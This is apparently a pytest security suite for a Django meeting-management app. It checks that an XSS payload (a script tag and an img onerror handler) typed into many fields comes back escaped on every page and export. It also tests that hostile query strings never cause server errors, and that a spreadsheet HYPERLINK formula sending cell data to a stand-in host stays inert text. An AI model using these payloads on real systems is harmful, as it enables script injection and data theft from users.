"""HTML and script typed into every text field come back escaped, never as markup.

The seed of `seed.py` writes a script and an image with an `onerror` handler into every text
of cell A's half of the tree — meeting place, topic and drafts, leave reasons, comments,
speeches, conclusions, the resolution, guests, assignments and the task they become, task
reports, addenda, documents (title, number, text), proposals, inspections and their fixes,
template and file names, a notification, an API key's name — and the test adds a unit's name,
a member's names and details, a scorecard and its criteria. Then every page of the site
(every URL pattern, with the seeded ids, as the officer, the secretary and a member, also as
htmx fragments) is read: no page holds the raw markup, and the main pages show the escaped
text. The printed minutes (Word and the HTML the PDF is made from) and the inspection notice
escape it too.
"""

from __future__ import annotations

import io
import itertools
import re
import uuid
import zipfile

import pytest
from django.template.loader import render_to_string
from django.urls import URLResolver, get_resolver

from chibo.followup import exporting as followup_exporting
from chibo.followup import services as followup_services
from chibo.followup.models import Inspection
from chibo.meetings import exporting
from chibo.meetings.models import Meeting
from chibo.org import services as org_services
from chibo.rulebooks import scorecards
from chibo.rulebooks.models import Scorecard

from .seed import seed

pytestmark = pytest.mark.django_db

PAYLOAD = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
RAW = ("<script>alert(1)", '"><img', "<img src=x")
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"
# File names lose what looks like a folder ("…</script>" → "script>…"): their tail remains.
ESCAPED_TAIL = "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"
# Pages that are not the application's own, or that change state on GET.
SKIPPED = ("api/", "admin/", "static/", "i18n/", "accounts/logout", "health", "^")


def _routes(patterns=None, prefix=""):
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern)


# The path parameter of a route → the kind of object it names (the `seed.Side.ids` keys).
_FIRST = {"units": "unit_id", "members": "member_id", "meetings": "meeting_id",
          "minutes-templates": "template_id", "word-templates": "word_template_id",
          "tasks": "task_id", "proposals": "proposal_id", "inspections": "inspection_id",
          "scorecards": "card_id", "documents": "document_id", "notifications": "notification_id",
          "comments": "comment_id", "accounts/tokens": "token_id"}  # fmt: skip
_INNER = {"section_pk": "section_id", "speech_pk": "speech_id", "assignment_pk": "assignment_id",
          "line_pk": "line_id", "guest_pk": "guest_id", "attachment_pk": "attachment_id",
          "request_pk": "leave_id", "task_pk": "task_id", "grant_pk": "grant_id",
          "cell_pk": "unit_id"}  # fmt: skip
_WORDS = {"field": "conclusion", "subject": "resolution"}


def page_urls(ids: dict[str, list[int]], extra: dict[str, list[int]]) -> list[str]:
    """Every page URL of the site, its ids taken from `ids` (a few per route)."""
    urls = []
    for route in _routes():
        if route.startswith(SKIPPED):
            continue
        params = re.findall(r"<(\w+):(\w+)>", route)
        choices = []
        for converter, name in params:
            if converter == "uuid":
                choices.append([str(uuid.uuid4())])
            elif converter in ("str", "path"):
                choices.append([_WORDS.get(name, "x")])
            elif name == "pk":
                head = next(
                    (k for k in sorted(_FIRST, key=len, reverse=True) if route.startswith(k)), None
                )
                key = _FIRST.get(head)
                choices.append((ids.get(key) or extra.get(route.split("/")[1], [])) if key else
                               extra.get(route.split("/")[1], []))  # fmt: skip
            else:
                choices.append(ids.get(_INNER.get(name, ""), []))
        if not params:
            urls.append("/" + route)
            continue
        if any(not c for c in choices):
            continue
        count = max(len(c) for c in choices)
        cycles = zip(*(itertools.cycle(c) for c in choices), strict=False)
        for values in itertools.islice(cycles, count):
            url = route
            for (converter, name), value in zip(params, values, strict=True):
                url = url.replace(f"<{converter}:{name}>", str(value), 1)
            urls.append("/" + url)
    return urls


@pytest.fixture
def hostile(world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.VAR_DIR = tmp_path
    halves = seed(world, {"A": PAYLOAD, "D": "Zoxdu"})
    officer = world.users["officer_c1"]
    org_services.unit_update(unit=world.b, code=world.b.code, name=f"Chi bộ {PAYLOAD}", by=officer)
    org_services.member_update(member=world.son, by=officer, family_name=PAYLOAD, middle_name=PAYLOAD,
                               community_roles=PAYLOAD, address=PAYLOAD, email="son@example.vn")  # fmt: skip
    card = Scorecard.objects.get(pk=halves.a.ids["card_id"][0])
    scorecards.scorecard_save(
        card=card, by=officer, name=f"Thang điểm {PAYLOAD}", source=PAYLOAD,
        grades=f"Tốt {PAYLOAD}=10; Kém=0",
        criteria=[{"group": PAYLOAD, "title": PAYLOAD, "points": 10, "measure": "judged", "bands": ""}],
    )  # fmt: skip
    inspection = Inspection.objects.get(pk=halves.a.ids["inspection_id"][0])
    followup_services.inspection_update(inspection=inspection, by=officer, team=PAYLOAD,
                                        findings=PAYLOAD, conclusion=PAYLOAD, notice_number="01-TB")  # fmt: skip
    halves.inspection = followup_services.inspection_conclude(inspection=inspection, by=officer)
    return halves


ROLES = ("officer_c1", "secretary_a", "member_a")


def test_no_page_shows_typed_markup(world, client_as, hostile):
    ids = dict(hostile.a.ids)
    extra = {"users": [u.pk for u in world.users.values()]}
    urls = page_urls(ids, extra)
    assert len(urls) > 80, urls  # the walk reaches the site
    shown, problems = 0, []
    for role in ROLES:
        client = client_as(role)
        client.raise_request_exception = False
        for url in urls:
            for headers in ({}, {"HTTP_HX_REQUEST": "true"}) if role == "secretary_a" else ({},):
                response = client.get(url, **headers)
                if response.status_code >= 500:
                    problems.append(f"{role} GET {url}: {response.status_code}")
                    continue
                if "html" not in response.get("Content-Type", "") or response.streaming:
                    continue
                page = response.content.decode()
                raw = [needle for needle in RAW if needle in page]
                if raw:
                    problems.append(f"{role} GET {url}: raw {raw}")
                shown += ESCAPED in page
    assert not problems, "\n".join(problems)
    assert shown > 50  # the texts were on the pages, escaped


# Every query parameter a page reads, and values no form would send.
QUERY_KEYS = ("q", "unit", "status", "state", "show", "field", "cells", "kind", "p", "sort", "year",
              "quarter", "level", "page", "part", "dissolved", "prepares", "member", "username",
              "date", "action", "actor", "text", "since", "until", "next")  # fmt: skip
QUERY_VALUES = (f"\x00{PAYLOAD}'\x01", "9" * 40, "-1", "0000-00-00", "%00%ff")


def test_hostile_query_strings_never_break_a_page(world, client_as, hostile):
    """NUL (PostgreSQL refuses it in a query), markup, huge and negative numbers, impossible
    dates in every query parameter of every page: an answer, never a server error."""
    urls = page_urls(dict(hostile.a.ids), {"users": [u.pk for u in world.users.values()]})
    client = client_as("officer_c1")
    client.raise_request_exception = False
    problems = []
    for index, url in enumerate(urls):
        # Text with NUL and markup everywhere, then one of the odd values in turn.
        for value in (QUERY_VALUES[0], QUERY_VALUES[1 + index % (len(QUERY_VALUES) - 1)]):
            response = client.get(url, dict.fromkeys(QUERY_KEYS, value))
            if response.status_code >= 500:
                problems.append(f"GET {url} with {value!r}: {response.status_code}")
            elif "html" in response.get("Content-Type", "") and not response.streaming:
                if any(needle in response.content.decode() for needle in RAW):
                    problems.append(f"GET {url} with {value!r}: raw markup")
    assert not problems, "\n".join(problems)


def test_the_main_pages_show_the_text_escaped(world, client_as, hostile):
    ids = hostile.a.ids
    meeting, recording, finalised = ids["meeting_id"]
    pages = {
        "member_a": [f"/meetings/{meeting}/", f"/meetings/{meeting}/drafts/", "/notifications/",
                     "/me/", "/accounts/tokens/"],
        "secretary_a": [f"/meetings/{recording}/record/", f"/meetings/{finalised}/",
                        f"/tasks/{ids['task_id'][0]}/", f"/units/{world.a.pk}/meetings/"],
        "officer_c1": [f"/units/{world.c1.pk}/", f"/members/{world.son.pk}/", "/members/",
                       f"/documents/{ids['document_id'][1]}/", "/documents/",
                       f"/proposals/{ids['proposal_id'][0]}/", f"/inspections/{ids['inspection_id'][0]}/",
                       f"/scorecards/{ids['card_id'][0]}/", f"/minutes-templates/{ids['template_id'][0]}/",
                       f"/units/{world.c1.pk}/word-templates/", f"/units/{world.c1.pk}/audit/"],
    }  # fmt: skip
    problems = []
    for role, urls in pages.items():
        client = client_as(role)
        for url in urls:
            response = client.get(url)
            html = response.content.decode()
            if response.status_code != 200 or ESCAPED_TAIL not in html:
                problems.append(f"{role} GET {url}: {response.status_code}, escaped text not shown")
            if [needle for needle in RAW if needle in html]:
                problems.append(f"{role} GET {url}: raw markup")
    assert not problems, "\n".join(problems)


def test_the_printed_minutes_and_notice_escape_the_text(world, hostile):
    finalised = Meeting.objects.get(pk=hostile.a.ids["meeting_id"][2])
    context = exporting.export_context(finalised)
    for document in ("minutes", "resolution"):
        source = render_to_string(
            f"meetings/print/{document}.html", context
        )  # what the PDF is made of
        assert "&lt;script&gt;alert(1)" in source and not [n for n in RAW if n in source]
    word = exporting.minutes_docx(finalised, context)
    with zipfile.ZipFile(io.BytesIO(word)) as package:
        xml = package.read("word/document.xml").decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml and "<script>" not in xml
    notice = followup_exporting.notice_context(hostile.inspection)
    source = render_to_string("followup/print/inspection_notice.html", notice)
    assert "&lt;script&gt;alert(1)" in source and not [n for n in RAW if n in source]
    word = followup_exporting.render(hostile.inspection, "docx")
    with zipfile.ZipFile(io.BytesIO(word)) as package:
        assert "<script>" not in package.read("word/document.xml").decode()


# --- Excel: a typed formula stays a text --------------------------------------------------------
FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")'


def _formulas(response) -> list[str]:
    import openpyxl

    body = b"".join(response.streaming_content) if response.streaming else response.content
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [f"{ws.title}!{cell.coordinate}" for ws in book.worksheets for line in ws.iter_rows()
            for cell in line if cell.data_type == "f"]  # fmt: skip


def test_a_typed_formula_stays_text_in_every_excel_export(world, client_as, settings, tmp_path):
    """openpyxl writes a text that starts with "=" as a formula, which Excel runs when the file
    is opened. The member list, the dashboard, the audit log and the import's error report
    keep such texts as texts."""
    import openpyxl
    from django.urls import reverse

    from chibo.org import importing
    from tests.org.test_import import make_xlsx, member_row

    settings.VAR_DIR = tmp_path
    settings.CHIBO_IMPORT_SYNC = True
    officer = world.users["officer_c1"]
    org_services.unit_update(unit=world.b, code=world.b.code, name=FORMULA, by=officer)
    org_services.member_update(member=world.son, by=officer, family_name=FORMULA, address=FORMULA,
                               email="son@example.vn")  # fmt: skip
    client = client_as("officer_c1")
    exports = {
        "members": client.get(reverse("member_export"), {"unit": world.c1.pk}),
        "dashboard": client.get(reverse("unit_dashboard_xlsx", args=[world.c1.pk])),
        "audit": client.get(reverse("unit_audit_xlsx", args=[world.c1.pk])),
    }
    book = openpyxl.load_workbook(make_xlsx(None, [member_row()]))
    code_cell = book[importing.MEMBER_SHEET]["J2"]  # "Mã chi bộ", a text as Excel writes it
    code_cell.value, code_cell.data_type = FORMULA, "s"
    bad = io.BytesIO()
    book.save(bad)
    job = client.post(reverse("import_upload"), {"file": SimpleUpload(bad.getvalue())})
    job_id = job["Location"].rstrip("/").split("/")[-1]
    assert importing.read_job(job_id)["state"] == "failed"
    exports["import errors"] = client.get(reverse("import_report", args=[job_id]))
    assert {name: r.status_code for name, r in exports.items()} == dict.fromkeys(exports, 200)
    assert {name: _formulas(r) for name, r in exports.items()} == dict.fromkeys(exports, [])


class SimpleUpload:
    name = "Danh sách.xlsx"

    def __init__(self, content: bytes):
        self.content = content

    def read(self) -> bytes:
        return self.content
